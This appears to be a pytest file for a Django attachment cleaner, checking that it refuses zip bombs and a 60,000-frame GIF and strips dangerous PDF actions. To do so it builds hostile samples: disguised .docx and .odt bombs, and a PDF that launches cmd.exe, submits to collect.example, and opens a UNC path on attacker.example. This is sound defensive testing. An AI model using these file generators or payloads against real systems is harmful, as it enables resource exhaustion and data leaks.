"""Hostile attachments (issue 9, items 2-4): zip bombs, endless animations, PDF actions that call out.

Each file is made here at test time. Memory is measured in a fresh process (VmHWM reset before cleaning), so
the figure is the cleaner's own; time goals live in ``bench/attachments.py``, not here.
"""

from __future__ import annotations

import io
import os
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pikepdf
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from intake.attachments import RejectedAttachment, inspect_and_clean
from intake.zip_limits import MAX_ZIP_MEMBERS

ROOT = Path(__file__).resolve().parents[2]
MIB = 1024 * 1024

OOXML_TYPES = (
    b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    b'<Override PartName="/word/document.xml" '
    b'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = (
    b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    b"<w:p><w:r><w:t>Bukti</w:t></w:r></w:p></w:body></w:document>"
)


def write_member(package: zipfile.ZipFile, name: str, prefix: bytes, padding: int) -> None:
    """Write ``prefix`` followed by ``padding`` spaces as one deflated member, 1 MiB at a time."""
    info = zipfile.ZipInfo(name)
    info.compress_type = zipfile.ZIP_DEFLATED
    with package.open(info, "w", force_zip64=padding > 2**31) as member:
        member.write(prefix)
        block = b" " * MIB
        while padding > 0:
            member.write(block[: min(MIB, padding)])
            padding -= MIB


def docx_bomb(path: Path, *, bomb_member: str, unpacked: int) -> None:
    """Write a small .docx whose ``bomb_member`` unpacks to ``unpacked`` bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        if bomb_member == "[Content_Types].xml":
            write_member(package, "[Content_Types].xml", OOXML_TYPES, unpacked)
        else:
            package.writestr("[Content_Types].xml", OOXML_TYPES)
        package.writestr("word/document.xml", DOCUMENT)
        if bomb_member != "[Content_Types].xml":
            write_member(package, bomb_member, b"", unpacked)


def odt_bomb(path: Path, *, unpacked: int) -> None:
    """Write a small .odt whose ``mimetype`` member unpacks to ``unpacked`` bytes."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as package:
        write_member(package, "mimetype", b"application/vnd.oasis.opendocument.text", unpacked)
        package.writestr("content.xml", "<office:document-content/>")


CLEAN_IN_A_FRESH_PROCESS = textwrap.dedent(
    """
    import os, sys
    import django
    os.environ["DJANGO_SETTINGS_MODULE"] = "config.settings"
    django.setup()
    from django.core.files.uploadedfile import UploadedFile
    from intake.attachments import RejectedAttachment, inspect_and_clean
    from tests.support.memory import peak_rss_kib, reset_peak_rss

    reset_peak_rss()
    with open(sys.argv[1], "rb") as source:
        upload = UploadedFile(file=source, name=sys.argv[2], size=os.fstat(source.fileno()).st_size)
        baseline = peak_rss_kib()
        try:
            result = inspect_and_clean(upload)
            outcome = "accepted:" + result.content_type
            result.close()
        except RejectedAttachment as exc:
            outcome = "refused:" + exc.code
    print(outcome, (peak_rss_kib() - baseline) // 1024)
    """
)


def clean_in_fresh_process(path: Path, name: str) -> tuple[str, int]:
    """Return (outcome, peak RSS growth in MiB) of cleaning ``path`` in a new Python process."""
    run = subprocess.run(
        [sys.executable, "-c", CLEAN_IN_A_FRESH_PROCESS, str(path), name],
        capture_output=True,
        text=True,
        cwd=ROOT,
        timeout=300,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    assert run.returncode == 0, run.stderr[-2000:]
    outcome, growth = run.stdout.split()[-2:]
    return outcome, int(growth)


# --- 9.2 zip bombs ---------------------------------------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize(
    ("maker", "name"),
    [
        (lambda path: docx_bomb(path, bomb_member="[Content_Types].xml", unpacked=256 * MIB), "surat.docx"),
        (lambda path: odt_bomb(path, unpacked=256 * MIB), "catatan.odt"),
        (lambda path: docx_bomb(path, bomb_member="word/media/big.bin", unpacked=256 * MIB), "lampiran.docx"),
    ],
    ids=["content-types", "odf-mimetype", "other-part"],
)
def test_a_zip_bomb_is_refused_without_unpacking_it(tmp_path: Path, maker, name: str) -> None:
    bomb = tmp_path / "bomb"
    maker(bomb)
    assert bomb.stat().st_size < 2 * MIB, "a small file that unpacks to 256 MiB"

    outcome, growth_mib = clean_in_fresh_process(bomb, name)

    assert outcome.startswith("refused:"), outcome
    assert growth_mib < 64, f"peak RSS grew by {growth_mib} MiB"


def test_a_package_with_too_many_parts_is_refused(tmp_path: Path) -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", OOXML_TYPES)
        package.writestr("word/document.xml", DOCUMENT)
        for n in range(MAX_ZIP_MEMBERS):
            package.writestr(f"customXml/item{n}.xml", b"")
    with pytest.raises(RejectedAttachment):
        inspect_and_clean(SimpleUploadedFile("banyak.docx", data.getvalue()))


def test_an_ordinary_docx_with_well_compressed_text_is_still_cleaned() -> None:
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as package:
        package.writestr("[Content_Types].xml", OOXML_TYPES)
        package.writestr("word/document.xml", DOCUMENT.replace(b"Bukti", b"Bukti pembayaran. " * 20_000))
    result = inspect_and_clean(SimpleUploadedFile("surat.docx", data.getvalue()))
    assert result.metadata_removed is True
    with zipfile.ZipFile(io.BytesIO(b"".join(result.chunks))) as package:
        assert package.read("word/document.xml").count(b"Bukti pembayaran.") == 20_000


# --- 9.3 animated GIF frames ------------------------------------------------------------------------------


def gif_with_frames(frames: int, *, width: int = 1, height: int = 1) -> bytes:
    """Return a GIF of ``frames`` frames of ``width`` x ``height`` pixels, each a different colour.

    Written by hand (Pillow would take minutes to write 60,000 frames): each frame is a graphic control
    extension, an image descriptor and the LZW codes "clear, colour, end" for a 1x1 picture.
    """
    assert (width, height) == (1, 1) or frames <= 10
    if (width, height) != (1, 1):
        out = io.BytesIO()
        pictures = [Image.new("L", (width, height), 255 * (n % 2)) for n in range(frames)]
        pictures[0].save(out, "GIF", save_all=True, append_images=pictures[1:], duration=40, loop=0)
        return out.getvalue()
    header = b"GIF89a" + struct.pack("<HHBBB", 1, 1, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    loop = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\x00\x00\x00"
    control = b"\x21\xf9\x04\x04\x04\x00\x00\x00"  # graphic control: 40 ms, keep the frame
    descriptor = b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0)
    black = control + descriptor + b"\x02\x02\x44\x01\x00"  # LZW: clear, colour 0, end
    white = control + descriptor + b"\x02\x02\x4c\x01\x00"  # LZW: clear, colour 1, end
    return header + loop + b"".join(black if n % 2 == 0 else white for n in range(frames)) + b"\x3b"


def test_the_hand_made_gif_is_what_it_claims() -> None:
    image = Image.open(io.BytesIO(gif_with_frames(6)))
    assert image.n_frames == 6
    colours = []
    for n in range(6):
        image.seek(n)
        colours.append(image.convert("L").getpixel((0, 0)))
    assert colours == [0, 255, 0, 255, 0, 255]


def test_a_short_animation_is_still_cleaned() -> None:
    result = inspect_and_clean(SimpleUploadedFile("kedip.gif", gif_with_frames(20)))
    assert result.metadata_removed is True and result.content_type == "image/gif"
    assert Image.open(io.BytesIO(b"".join(result.chunks))).n_frames == 20


@pytest.mark.slow
def test_sixty_thousand_tiny_frames_are_refused_in_bounded_memory(tmp_path: Path) -> None:
    path = tmp_path / "frames.gif"
    path.write_bytes(gif_with_frames(60_000))
    assert Image.open(path).size == (1, 1)

    outcome, growth_mib = clean_in_fresh_process(path, "kedip.gif")

    assert outcome.startswith("refused:"), outcome
    assert growth_mib < 32, f"peak RSS grew by {growth_mib} MiB"


def test_frames_times_pixels_count_against_the_pixel_budget(settings) -> None:
    settings.PELUIT_MAX_IMAGE_PIXELS = 100 * 100 * 5  # five frames of 100x100 fit, six do not
    assert inspect_and_clean(SimpleUploadedFile("a.gif", gif_with_frames(5, width=100, height=100))).metadata_removed
    with pytest.raises(RejectedAttachment) as caught:
        inspect_and_clean(SimpleUploadedFile("b.gif", gif_with_frames(6, width=100, height=100)))
    assert caught.value.code == "uncleanable"


# --- 9.4 PDF actions --------------------------------------------------------------------------------------

UNC = "\\\\attacker.example\\share\\x.pdf"


def action(pdf: pikepdf.Pdf, kind: str, **entries: object) -> pikepdf.Dictionary:
    return pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **entries))


def pdf_with_every_action() -> bytes:
    """A two-page PDF whose actions sit everywhere a reader would run them."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.add_blank_page()
    first, second = pdf.pages[0].obj, pdf.pages[1].obj
    goto = action(pdf, "/GoTo", D=pikepdf.Array([second, pikepdf.Name.Fit]))
    launch = action(pdf, "/Launch", F=pikepdf.String("calc.exe"), Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")))
    submit = action(pdf, "/SubmitForm", F=pikepdf.Dictionary(FS=pikepdf.Name.URL, F="https://collect.example/x"))
    gotor = action(pdf, "/GoToR", F=pikepdf.String(UNC), D=pikepdf.Array([0, pikepdf.Name.Fit]))
    # An internal GoTo whose /Next chain hides a Launch and a SubmitForm, which chains on to a GoToR.
    submit.Next = gotor
    goto.Next = pikepdf.Array([launch, submit])
    others = [
        action(pdf, "/URI", URI=pikepdf.String("https://track.example/open")),
        action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(1)")),
        action(pdf, "/ImportData", F=pikepdf.String("data.fdf")),
        action(pdf, "/GoToE", F=pikepdf.String("embedded.pdf"), NewWindow=True),
        action(pdf, "/Rendition", OP=0),
        action(pdf, "/Named", N=pikepdf.Name.Print),
        action(pdf, "/Thread", F=pikepdf.String("other.pdf"), D=0),
        action(pdf, "/Sound"),
        action(pdf, "/Movie"),
        action(pdf, "/Hide", T=pikepdf.String("field"), H=True),
        action(pdf, "/ResetForm"),
        action(pdf, "/SetOCGState", State=pikepdf.Array([])),
        action(pdf, "/Trans"),
        action(pdf, "/GoTo3DView"),
        action(pdf, "/RichMediaExecute"),
    ]

    def link(act: object, y: int) -> pikepdf.Dictionary:
        return pdf.make_indirect(
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, y, 10, y + 10], A=act)
        )

    jump = pdf.make_indirect(pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([second, pikepdf.Name.Fit])))
    internal = link(jump, 500)
    annotations = [link(goto, 0), internal] + [link(a, 20 * (n + 1)) for n, a in enumerate(others)]
    # A direct (not indirect) action dictionary on an annotation, with additional actions.
    annotations.append(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=[20, 0, 30, 10],
            A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("direct.exe")),
            AA=pikepdf.Dictionary(
                E=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://hover.example"))
            ),
        )
    )
    first.Annots = pdf.make_indirect(pikepdf.Array(annotations))
    first.AA = pikepdf.Dictionary(O=gotor)
    # A form field with a submit button and keystroke JavaScript.
    field = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Widget,
            FT=pikepdf.Name.Btn,
            T=pikepdf.String("kirim"),
            Rect=[0, 700, 50, 720],
            P=first,
            A=submit,
            AA=pikepdf.Dictionary(K=action(pdf, "/JavaScript", JS=pikepdf.String("event.rc = true"))),
        )
    )
    first.Annots.append(field)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    # The document opens with a GoTo whose chain launches; document-level additional actions.
    opening = action(pdf, "/GoTo", D=pikepdf.Array([first, pikepdf.Name.Fit]))
    opening.Next = launch
    pdf.Root.OpenAction = opening
    pdf.Root.AA = pikepdf.Dictionary(WC=action(pdf, "/JavaScript", JS=pikepdf.String("app.alert(2)")))
    # Outlines: one internal entry, one that launches.
    outlines = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Outlines))
    to_second = pikepdf.Array([second, pikepdf.Name.Fit])
    good = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Halaman 2"), Parent=outlines, Dest=to_second))
    bad = pdf.make_indirect(pikepdf.Dictionary(Title=pikepdf.String("Buka"), Parent=outlines, A=gotor, Prev=good))
    good.Next = bad  # an outline's /Next is the next entry, not an action: it must stay
    outlines.First, outlines.Last, outlines.Count = good, bad, 2
    pdf.Root.Outlines = outlines
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


ACTION_KEYS = ("/A", "/OpenAction", "/PA")


def actions_in(pdf: pikepdf.Pdf) -> tuple[list[str], int]:
    """Return (the action types reachable anywhere in ``pdf``, how many /AA dictionaries there are)."""
    found: list[str] = []
    additional = 0
    seen: set[tuple[int, int]] = set()

    def visit_action(value: object) -> None:
        if isinstance(value, pikepdf.Array):
            for item in value:
                visit_action(item)
        elif isinstance(value, pikepdf.Dictionary) and "/S" in value:
            found.append(str(value.S))
            if "/Next" in value:
                visit_action(value.Next)

    def walk(obj: object, depth: int = 0) -> None:
        nonlocal additional
        if depth > 40:
            return
        if isinstance(obj, pikepdf.Object) and obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Dictionary | pikepdf.Stream):
            if obj.get("/Type") == "/Action":
                visit_action(obj)
            for key in ACTION_KEYS:
                if key in obj and isinstance(obj[key], pikepdf.Dictionary):
                    visit_action(obj[key])
            if "/AA" in obj:
                additional += 1
            for key in obj.keys():
                walk(obj[key], depth + 1)
        elif isinstance(obj, pikepdf.Array):
            for item in obj:
                walk(item, depth + 1)

    walk(pdf.trailer)
    for obj in pdf.objects:
        walk(obj)
    return found, additional


def test_the_test_pdf_carries_every_kind_of_action() -> None:
    with pikepdf.open(io.BytesIO(pdf_with_every_action())) as before:
        found, additional = actions_in(before)
    assert {"/Launch", "/SubmitForm", "/GoToR", "/URI", "/JavaScript", "/ImportData", "/GoToE", "/Rendition"} <= set(
        found
    )
    assert additional >= 3


def test_pdf_keeps_only_internal_goto_actions() -> None:
    original = pdf_with_every_action()

    result = inspect_and_clean(SimpleUploadedFile("tautan.pdf", original))

    assert result.metadata_removed is True
    cleaned = b"".join(result.chunks)
    with pikepdf.open(io.BytesIO(cleaned)) as after:
        found, additional = actions_in(after)
        assert set(found) == {"/GoTo"}, found
        assert found.count("/GoTo") >= 3, "the internal links, the opening view and their chains stay"
        assert additional == 0
        assert len(after.pages) == 2
        # The outline keeps its internal entry and its structure (an outline's /Next is not an action).
        outline = after.Root.Outlines
        assert str(outline.First.Title) == "Halaman 2" and outline.First.Next.objgen == outline.Last.objgen
        assert "/A" not in outline.Last
        # The form field stays a field, without its actions.
        field = after.Root.AcroForm.Fields[0]
        assert str(field.T) == "kirim" and "/A" not in field and "/AA" not in field
    for leftover in (
        b"calc.exe",
        b"cmd.exe",
        b"attacker.example",
        b"collect.example",
        b"track.example",
        b"hover.example",
        b"direct.exe",
        b"app.alert",
        b"data.fdf",
        b"embedded.pdf",
        b"other.pdf",
    ):
        assert leftover not in cleaned, leftover
